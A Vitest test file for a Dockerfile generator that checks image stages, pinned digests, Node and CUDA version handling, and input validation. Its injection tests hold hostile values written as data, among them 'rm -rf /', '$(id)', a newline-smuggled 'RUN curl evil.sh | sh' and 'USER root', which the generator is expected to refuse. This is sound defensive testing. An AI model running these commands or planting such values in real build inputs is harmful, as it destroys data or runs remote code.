import { describe, expect, test } from "vitest";
import { DEFAULT_NODE_VERSION } from "../../compiler/assemble.js";
import { CUDA_VERSIONS, CudaVersionError, DockerfileInputError, generateDockerfile, imageWarnings, normalizeCudaVersion } from "../../generators/docker/index.js";
import type { BentoManifest } from "../../manifest/types.js";
import { sampleManifest } from "../manifest/sample-manifest.js";
import { copyInstructions, healthcheckOf, parseDockerfile, runInstructions, type DockerfileParts } from "../support/dockerfile-parts.js";
import { cpuManifest, gpuManifest } from "./manifests.js";

const DIGEST = `sha256:${"0123456789abcdef".repeat(4)}`;

function dockerfileOf(manifest = cpuManifest()): DockerfileParts {
  return parseDockerfile(generateDockerfile(manifest).get("Dockerfile")!);
}

/** A CPU service that names no Node version: the manifest carries the compiler's default. */
function defaultCpuManifest(): BentoManifest {
  const manifest = cpuManifest();
  manifest.docker.nodeVersion = DEFAULT_NODE_VERSION;
  return manifest;
}

function withDocker(docker: Partial<BentoManifest["docker"]>, manifest = cpuManifest()): BentoManifest {
  Object.assign(manifest.docker, docker);
  return manifest;
}

function expectCommonShape(parts: DockerfileParts): void {
  expect(parts.stages.map((stage) => stage.name)).toEqual(["node", "init", "deps", "runtime"]);
  const [, init, deps, runtime] = parts.stages;
  expect(init!.image).toBe("node");
  expect(runInstructions(init!).map((run) => run.getArgumentsContent())).toEqual(["apt-get update && apt-get install -y --no-install-recommends tini && rm -rf /var/lib/apt/lists/*"]);
  expect(deps!.image).toBe("node");
  // The lockfile install with a shared, locked BuildKit cache for root's npm cache (the stage runs as root).
  const install = runInstructions(deps!).find((run) => /\bnpm ci\b/.test(run.getArgumentsContent() ?? ""))!;
  expect(install.getArgumentsContent()).toMatch(/npm ci --omit=dev\b/);
  const mount = install.getFlags().find((flag) => flag.getName() === "mount")!;
  expect(Object.fromEntries(mount.getOptions().map((option) => [option.getName(), option.getValue()]))).toEqual({ type: "cache", target: "/root/.npm", sharing: "locked" });
  expect(parts.keywords(deps!)).not.toContain("USER");
  // The image is built on no stage of the Node image: of it, only the node binary and tini's static build are copied in.
  expect(parts.baseChain(runtime!)).toHaveLength(1);
  expect(copyInstructions(runtime!).filter((copy) => copy.startsWith("--from="))).toEqual([
    "--from=node /usr/local/bin/node /usr/local/bin/node",
    "--from=init /usr/bin/tini-static /usr/bin/tini",
    "--from=deps /app/node_modules /app/node_modules",
  ]);
  for (const run of runInstructions(runtime!)) expect(run.getArgumentsContent()).not.toMatch(/\b(npm|npx|corepack|yarn)\b/);
  // A numeric non-root user set before the command; port 3000; health on /readyz.
  const users = runtime!.instructions.filter((instruction) => instruction.getKeyword() === "USER").map((user) => user.getArgumentsContent());
  expect(users).toEqual(["1000:1000"]);
  expect(parts.keywords(runtime!).lastIndexOf("USER")).toBeLessThan(parts.keywords(runtime!).indexOf("CMD"));
  expect(runtime!.instructions.find((instruction) => instruction.getKeyword() === "EXPOSE")?.getArgumentsContent()).toBe("3000");
  const healthcheck = healthcheckOf(runtime!)!;
  expect(healthcheck.getSubcommand()?.getValue()).toBe("CMD");
  expect(healthcheck.getArgumentsContent()).toMatch(/http:\/\/127\.0\.0\.1:.*\|\| 3000\) \+ \\"\/readyz/);
  expect(healthcheck.getArgumentsContent()).not.toMatch(/\bcurl\b|\bwget\b/);
  // tini is PID 1 (exec form, so no shell sits between) and starts node; no -g: it signals only the primary.
  expect(parts.entrypoint).toEqual(["/usr/bin/tini", "--"]);
  expect(parts.command).toEqual(["node", "--enable-source-maps", "main.mjs"]);
  expect(parts.env).toMatchObject({ NODE_ENV: "production", BENTOC_HOST: "0.0.0.0", BENTOC_PORT: "3000" });
}

describe("the Dockerfile of a CPU service", () => {
  test("builds on node:24-bookworm-slim by default and runs on debian:bookworm-slim with node, tini and the bento", () => {
    const parts = dockerfileOf(defaultCpuManifest());
    expectCommonShape(parts);
    expect(parts.stages[0]!.image).toBe("node:24-bookworm-slim");
    expect(parts.baseChain(parts.final)).toEqual(["debian:bookworm-slim"]);
  });

  test.each(["22", "22.11", "20.19", "20.19.1", "26"])("uses the Node version the service selects: %s", (nodeVersion) => {
    expect(dockerfileOf(withDocker({ nodeVersion })).stages[0]!.image).toBe(`node:${nodeVersion}-bookworm-slim`);
  });

  test("sets the service's env after bentoc's own, quoted literally", () => {
    const manifest = cpuManifest();
    manifest.services[0]!.config.envs = [{ name: "GREETING", value: `it's "$HOME" \\ \`id\` ; rm -rf /` }, { name: "BENTOC_PORT", value: "3000" }, { name: "UNSET" }];
    const parts = dockerfileOf(manifest);
    expect(parts.env.GREETING).toBe(`it's "$HOME" \\ \`id\` ; rm -rf /`);
    expect(parts.env).not.toHaveProperty("UNSET");
    // Nothing from the env reaches a RUN line.
    for (const stage of parts.stages) for (const run of runInstructions(stage)) expect(run.getArgumentsContent()).not.toContain("GREETING");
  });

  test("installs the service's system packages in the image, not in a build stage", () => {
    const parts = dockerfileOf(withDocker({ systemPackages: ["libgomp1", "ffmpeg=7:5.1.6-0+deb12u1"] }));
    expect(runInstructions(parts.final).map((run) => run.getArgumentsContent())).toContain("apt-get update && apt-get install -y --no-install-recommends libgomp1 ffmpeg=7:5.1.6-0+deb12u1 && rm -rf /var/lib/apt/lists/*");
    const init = parts.stages.find((stage) => stage.name === "init")!;
    expect(runInstructions(init).map((run) => run.getArgumentsContent()).join("\n")).not.toContain("libgomp1");
  });

  test("is the same text for the same manifest", () => {
    expect(generateDockerfile(cpuManifest())).toEqual(generateDockerfile(cpuManifest()));
  });

  test("comes with a .dockerignore that sends only what the Dockerfile copies", () => {
    const ignore = generateDockerfile(cpuManifest()).get(".dockerignore")!;
    expect(ignore.split("\n").filter((line) => line && !line.startsWith("#"))).toEqual(["*", "!bento.yaml", "!package.json", "!package-lock.json", "!src", "!models"]);
  });
});

describe("base images pinned by digest", () => {
  test("docker.nodeImage is the build stages' image, verbatim, whatever nodeVersion says", () => {
    const parts = dockerfileOf(withDocker({ nodeVersion: "22", nodeImage: `node:24-bookworm-slim@${DIGEST}` }));
    expectCommonShape(parts);
    expect(parts.stages[0]!.image).toBe(`node:24-bookworm-slim@${DIGEST}`);
    expect(parts.baseChain(parts.final)).toEqual(["debian:bookworm-slim"]);
  });

  test("docker.baseImage is the image's base, verbatim, with node and tini copied in", () => {
    const parts = dockerfileOf(withDocker({ baseImage: `registry.example.com:5000/team/debian:bookworm-slim@${DIGEST}` }));
    expectCommonShape(parts);
    expect(parts.baseChain(parts.final)).toEqual([`registry.example.com:5000/team/debian:bookworm-slim@${DIGEST}`]);
  });

  test("both pinned: a GPU service's baseImage replaces the CUDA image too", () => {
    const parts = dockerfileOf(withDocker({ nodeImage: `node@${DIGEST}`, baseImage: `nvidia/cuda@${DIGEST}` }, gpuManifest("12.4")));
    expectCommonShape(parts);
    expect([parts.stages[0]!.image, parts.final.image]).toEqual([`node@${DIGEST}`, `nvidia/cuda@${DIGEST}`]);
  });

  test.each<[string, Partial<BentoManifest["docker"]>, RegExp]>([
    ["a nodeImage digest that is too short", { nodeImage: "node:24-bookworm-slim@sha256:0123abcd" }, /^docker\.nodeImage 'node:24-bookworm-slim@sha256:0123abcd' is not an image reference; write it as name\[:tag\]\[@sha256:<64 hex digits>\]/],
    ["a nodeImage digest of another algorithm", { nodeImage: `node@md5:${"0".repeat(32)}` }, /^docker\.nodeImage 'node@md5:0+' is not an image reference/],
    ["a nodeImage with upper-case letters in its path", { nodeImage: "Node:24" }, /^docker\.nodeImage 'Node:24' is not an image reference/],
    ["an empty nodeImage", { nodeImage: "" }, /^docker\.nodeImage '' is not an image reference/],
    ["a baseImage digest in upper case", { baseImage: `debian@${DIGEST.toUpperCase()}` }, /^docker\.baseImage 'debian@SHA256:0123456789ABCDEF.*' is not an image reference/],
    ["an empty baseImage", { baseImage: "" }, /^docker\.baseImage '' is not an image reference/],
  ])("%s is refused, naming the option", (_what, docker, message) => {
    expect(() => generateDockerfile(withDocker(docker))).toThrow(DockerfileInputError);
    expect(() => generateDockerfile(withDocker(docker))).toThrow(message);
  });
});

describe("Node.js versions past their end of life", () => {
  const december2026 = new Date("2026-12-06T12:00:00Z");

  test("Node 20 is still built (bentoc runs on 20.19+), with a warning that names the options", () => {
    const manifest = withDocker({ nodeVersion: "20" });
    expect(dockerfileOf(manifest).stages[0]!.image).toBe("node:20-bookworm-slim");
    const warnings = imageWarnings(manifest, december2026);
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/^the image is built on Node\.js 20 \(nodeVersion "20"\), which reached its end of life on 2026-04-30/);
    expect(warnings[0]).toMatch(/docker\.nodeVersion \(bentoc\.yaml\) or image\.nodeVersion \(@service\)/);
  });

  test.each<[string, string, number]>([
    ["20.19", "2026-12-06", 1],
    ["20", "2026-04-29", 0],
    ["20", "2026-04-30", 1],
    ["21", "2026-12-06", 1],
    ["22", "2026-12-06", 0],
    ["22", "2027-05-01", 1],
    [DEFAULT_NODE_VERSION, "2026-12-06", 0],
    ["27", "2030-01-01", 0],
  ])("nodeVersion %s on %s: %i warning(s)", (nodeVersion, day, count) => {
    expect(imageWarnings(withDocker({ nodeVersion }), new Date(`${day}T00:00:00Z`))).toHaveLength(count);
  });

  test("a nodeImage is the user's to know: no warning from nodeVersion", () => {
    expect(imageWarnings(withDocker({ nodeVersion: "20", nodeImage: `node:22-bookworm-slim@${DIGEST}` }), december2026)).toEqual([]);
  });

  test.each(["18", "20.18", "20.18.9", "19.9"])("nodeVersion %s, older than the runtime needs, is refused", (nodeVersion) => {
    expect(() => generateDockerfile(withDocker({ nodeVersion }))).toThrow(/^docker\.nodeVersion '[0-9.]+' is not a Node.js version bentoc can run on; use 20\.19 or newer/);
  });
});

describe("the Dockerfile of a GPU service", () => {
  test("runs on a CUDA runtime image with Node and tini copied in, tini as its entrypoint", () => {
    const parts = dockerfileOf(gpuManifest("12.4"));
    expectCommonShape(parts);
    expect(parts.baseChain(parts.final)).toEqual(["nvidia/cuda:12.4.1-runtime-ubuntu22.04"]);
    expect(runInstructions(parts.final).some((run) => run.getArgumentsContent()!.includes("apt-get install -y --no-install-recommends libgomp1"))).toBe(true);
  });

  test("defaults to the newest allowed CUDA 12", () => {
    expect(dockerfileOf(gpuManifest()).final.image).toBe(`nvidia/cuda:${normalizeCudaVersion("12")}-runtime-ubuntu22.04`);
  });

  test("a CPU service that names a CUDA version gets the CUDA image too", () => {
    const manifest = cpuManifest();
    manifest.docker.cuda = "11";
    expect(dockerfileOf(manifest).final.image).toBe("nvidia/cuda:11.8.0-runtime-ubuntu22.04");
  });
});

describe("CUDA version normalisation", () => {
  test.each([
    ["12", "12.9.1"],
    ["12.4", "12.4.1"],
    ["12.4.1", "12.4.1"],
    ["11", "11.8.0"],
    ["11.8", "11.8.0"],
  ])("%s → %s", (requested, full) => {
    expect(normalizeCudaVersion(requested)).toBe(full);
  });

  test("the newest of a line is the last allowed one", () => {
    const twelves = CUDA_VERSIONS.filter((version) => version.startsWith("12."));
    expect(normalizeCudaVersion("12")).toBe(twelves.at(-1));
  });

  test.each(["10", "12.7", "12.4.0", "13", "12.x", "latest", ""])("'%s' is an error listing the allowed versions", (requested) => {
    expect(() => normalizeCudaVersion(requested)).toThrow(CudaVersionError);
    expect(() => normalizeCudaVersion(requested)).toThrow(`use one of ${CUDA_VERSIONS.join(", ")}`);
  });

  test("an unknown version in the manifest fails the generator", () => {
    expect(() => generateDockerfile(gpuManifest("12.7"))).toThrow(/CUDA version '12.7' is not supported/);
  });
});

describe("Dockerfile inputs that could inject instructions or shell", () => {
  const cases: [string, (manifest: ReturnType<typeof sampleManifest>) => void, RegExp][] = [
    ["a system package with shell syntax", (m) => (m.docker.systemPackages = ["curl; rm -rf /"]), /systemPackages entry 'curl; rm -rf \/' is not a Debian package name/],
    ["a system package with a command substitution", (m) => (m.docker.systemPackages = ["$(id)"]), /not a Debian package name/],
    ["a system package with a newline", (m) => (m.docker.systemPackages = ["git\nRUN id"]), /'git\\nRUN id' is not a Debian package name/],
    ["a base image with a newline", (m) => (m.docker.baseImage = "debian:12\nRUN curl evil.sh | sh"), /baseImage 'debian:12\\nRUN curl evil.sh \| sh' is not an image reference/],
    ["a base image with shell syntax", (m) => (m.docker.baseImage = "debian:12 && id"), /is not an image reference/],
    ["an env value with a newline", (m) => (m.services[0]!.config.envs = [{ name: "X", value: "a\nRUN id" }]), /environment variable X contains a line break/],
    ["an env value with a carriage return", (m) => (m.services[0]!.config.envs = [{ name: "X", value: "a\rb" }]), /environment variable X contains a line break/],
    ["an env name with '='", (m) => (m.services[0]!.config.envs = [{ name: "A=B C", value: "1" }]), /environment variable name 'A=B C'/],
    ["a Node version with a tag suffix", (m) => (m.docker.nodeVersion = "20-alpine\nUSER root"), /docker.nodeVersion '20-alpine\\nUSER root' is not a Node.js version/],
    ["a Node version too old for the runtime", (m) => (m.docker.nodeVersion = "18"), /use 20.19 or newer/],
    ["a Node image with a newline", (m) => (m.docker.nodeImage = "node:24\nRUN id"), /docker.nodeImage 'node:24\\nRUN id' is not an image reference/],
    ["a Node image with shell syntax", (m) => (m.docker.nodeImage = "node:24 AS node\nRUN id #"), /docker.nodeImage .* is not an image reference/],
    ["a bento name with a newline", (m) => (m.name = "x\nUSER root"), /is not a valid store tag/],
  ];
  test.each(cases)("%s is refused", (_what, spoil, message) => {
    const manifest = cpuManifest();
    spoil(manifest);
    expect(() => generateDockerfile(manifest)).toThrow(DockerfileInputError);
    expect(() => generateDockerfile(manifest)).toThrow(message);
  });
});
